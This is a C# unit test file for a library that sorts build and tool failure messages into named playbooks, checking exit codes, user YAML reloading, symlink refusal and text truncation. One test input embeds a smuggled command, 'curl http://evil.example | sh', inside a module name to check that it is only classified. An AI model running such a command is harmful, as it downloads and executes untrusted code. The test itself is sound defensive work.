using System.Text;
using Slaps.Core.Diagnostics;
using Slaps.Core.Execution;
using Slaps.Core.Failures;
using Slaps.Runtime.Failures;

namespace Slaps.Runtime.Tests.Failures;

public sealed class PlaybookLibraryTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("playbooks-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData("ERROR: Could not find a version that satisfies the requirement flask\nERROR: No matching distribution found for flask", FailureClass.Systemic, "missing-dependency", "flask")]
    [InlineData("WARNING: Retrying after connection broken by 'ReadTimeoutError'\nERROR: No matching distribution found for flask", FailureClass.Transient, "network", null)]
    [InlineData("HTTP 403: API rate limit exceeded for 192.0.2.1", FailureClass.Systemic, "rate-limit", null)]
    [InlineData("HTTP/1.1 403 Forbidden\nx-ratelimit-limit: 60\nx-ratelimit-remaining: 0", FailureClass.Systemic, "rate-limit", null)]
    [InlineData("fatal: Unable to create '/w/.git/index.lock': File exists.", FailureClass.Transient, "lock-contention", null)]
    [InlineData("Error: listen EADDRINUSE: address already in use 127.0.0.1:3000", FailureClass.Systemic, "port-in-use", "3000")]
    [InlineData("OSError: [Errno 28] No space left on device", FailureClass.Resource, "disk-full", null)]
    [InlineData("django.db.migrations.exceptions.InconsistentMigrationHistory: x", FailureClass.Systemic, "schema-drift", null)]
    [InlineData("curl: (22) The requested URL returned error: 502 Bad Gateway", FailureClass.External, "outage", null)]
    [InlineData("src/app.ts(3,1): error TS2304: Cannot find name 'x'.", FailureClass.Logic, "compile-error", null)]
    [InlineData("Cannot find module 'x; curl http://evil.example | sh'", FailureClass.Systemic, "missing-dependency", null)]
    public void The_shipped_playbooks_know_what_tools_say(string text, FailureClass expected, string playbook, string? subject)
    {
        var found = Of([]).Classify(new(text) { ExitCode = 1 });

        Assert.Equal((expected, playbook, subject), (found.Class, found.Playbook, found.Subject));
    }

    [Fact]
    public void Exit_codes_signals_time_limits_and_kills_for_memory_are_evidence_without_any_text()
    {
        var playbooks = Of([]);

        Assert.Equal("out-of-memory", playbooks.Classify(new("") { ExitCode = 137 }).Playbook);
        Assert.Equal("out-of-memory", playbooks.Classify(new("all is well") { OomKilled = true }).Playbook);
        Assert.Equal("crash", playbooks.Classify(new("") { Signal = 11 }).Playbook);
        Assert.Equal("time-limit", playbooks.Classify(new("") { Kind = FailureKind.TimedOut }).Playbook);
        Assert.Equal("missing-dependency", playbooks.Classify(new("") { ExitCode = 127 }).Playbook);
        Assert.Null(playbooks.Classify(new("") { ExitCode = 1 }).Playbook);
    }

    [Fact]
    public void The_users_own_playbooks_come_first_and_are_read_anew_when_they_change()
    {
        var library = new PlaybookLibrary(_folder, _ => Assert.Fail("nothing is wrong"));
        Assert.Equal("outage", library.Current.Classify(new("502 Bad Gateway")).Playbook);

        File.WriteAllText(Path.Combine(_folder, "mine.yaml"), "playbooks:\n  - {name: our-gateway, class: transient, patterns: [bad gateway]}\n");
        Assert.Equal("our-gateway", library.Current.Classify(new("502 Bad Gateway")).Playbook);
        Assert.Same(library.Current, library.Current);

        File.WriteAllText(Path.Combine(_folder, "mine.yaml"), "playbooks:\n  - {name: our-own-gateway, class: transient, patterns: [bad gateway]}\n");
        Assert.Equal("our-own-gateway", library.Current.Classify(new("502 Bad Gateway")).Playbook);

        File.Delete(Path.Combine(_folder, "mine.yaml"));
        Assert.Equal("outage", library.Current.Classify(new("502 Bad Gateway")).Playbook);
    }

    [Fact]
    public void What_is_wrong_with_them_is_told_once_and_links_are_not_followed()
    {
        var told = new List<Diagnostic>();
        File.WriteAllText(Path.Combine(_folder, "mine.yaml"), "playbooks:\n  - {name: a, class: transient, paterns: [x]}\n");
        File.CreateSymbolicLink(Path.Combine(_folder, "other.yaml"), "/etc/hostname");
        var library = new PlaybookLibrary(_folder, told.Add);

        _ = library.Current;
        _ = library.Current;

        Assert.Contains("Did you mean patterns?", told[0].Message);
        Assert.Contains(told, d => d.File!.EndsWith("other.yaml", StringComparison.Ordinal) && d.Message.Contains("it is a link to '/etc/hostname', and links are not followed", StringComparison.Ordinal));
        Assert.Equal(told.Count, told.Distinct().Count());
    }

    [Fact]
    public void One_whose_name_is_no_text_is_told_and_the_others_count()
    {
        Assert.SkipUnless(OperatingSystem.IsLinux(), "Elsewhere a name is always text.");
        var told = new List<Diagnostic>();
        File.WriteAllText(Path.Combine(_folder, "right.yaml"), "playbooks:\n  - {name: mine, class: transient, patterns: [frobnicator]}\n");
        Shell("printf x > \"$1/$(printf '\\377.yaml')\"");
        var library = new PlaybookLibrary(_folder, told.Add);

        Assert.Equal("mine", library.Current.Classify(new("the frobnicator")).Playbook);
        Assert.Contains("which is no text in UTF-8", Assert.Single(told).Message);
        Shell("rm \"$1/$(printf '\\377.yaml')\"");
    }

    private void Shell(string script)
    {
        using var shell = System.Diagnostics.Process.Start("sh", ["-c", script, "sh", _folder]);
        shell.WaitForExit();
        Assert.Equal(0, shell.ExitCode);
    }

    [Fact]
    public void What_has_the_name_of_a_playbook_and_is_no_file_that_can_be_read_is_named()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows(), "Pipes have no place in a folder there.");
        var told = new List<Diagnostic>();
        Directory.CreateDirectory(Path.Combine(_folder, "folder.yaml"));
        File.CreateSymbolicLink(Path.Combine(_folder, "gone.yml"), Path.Combine(_folder, "nowhere"));
        using (var made = System.Diagnostics.Process.Start("mkfifo", Path.Combine(_folder, "pipe.yaml"))) made.WaitForExit();
        File.WriteAllText(Path.Combine(_folder, "right.yaml"), "playbooks:\n  - {name: mine, class: transient, patterns: [frobnicator]}\n");
        var library = new PlaybookLibrary(_folder, told.Add);

        Assert.Equal("mine", library.Current.Classify(new("the frobnicator")).Playbook);
        Assert.Equal(["folder.yaml", "gone.yml", "pipe.yaml"], told.Select(d => Path.GetFileName(d.File)));
        Assert.Equal(["it is a folder", "links are not followed", "it is no regular file"], told.Select(d => new[] { "it is a folder", "links are not followed", "it is no regular file" }.FirstOrDefault(d.Message.Contains)));

        // Told once, and again when it has become something else.
        _ = library.Current;
        Assert.Equal(3, told.Count);
        Directory.Delete(Path.Combine(_folder, "folder.yaml"));
        _ = library.Current;
        Assert.Equal(5, told.Count);
    }

    [Fact]
    public void More_files_than_are_read_are_told()
    {
        var told = new List<Diagnostic>();
        for (var i = 0; i < 102; i++) File.WriteAllText(Path.Combine(_folder, $"{i:000}.yaml"), "playbooks: []\n");

        _ = new PlaybookLibrary(_folder, told.Add).Current;

        Assert.Contains("from 100.yaml on are left out", Assert.Single(told).Message);
    }

    [Fact]
    public void Of_a_long_text_both_ends_are_kept_and_of_a_short_one_everything()
    {
        Assert.Equal("grüße", Text("grüße"));
        var middling = "a" + string.Concat(Enumerable.Repeat("ü", 20_000));
        Assert.Equal(middling, Text(middling));

        var longText = Text("first" + new string('x', 5_000_000) + "last");
        Assert.StartsWith("first", longText, StringComparison.Ordinal);
        Assert.EndsWith("last", longText, StringComparison.Ordinal);
        Assert.True(longText.Length <= ErrorText.Head + ErrorText.Tail + 1);

        static string Text(string text) => BoundedText.Read(new MemoryStream(Encoding.UTF8.GetBytes(text)));
    }

    private Playbooks Of(IEnumerable<Playbook> own) => new([.. own, .. new PlaybookLibrary(_folder, _ => { }).Current.All]);
}
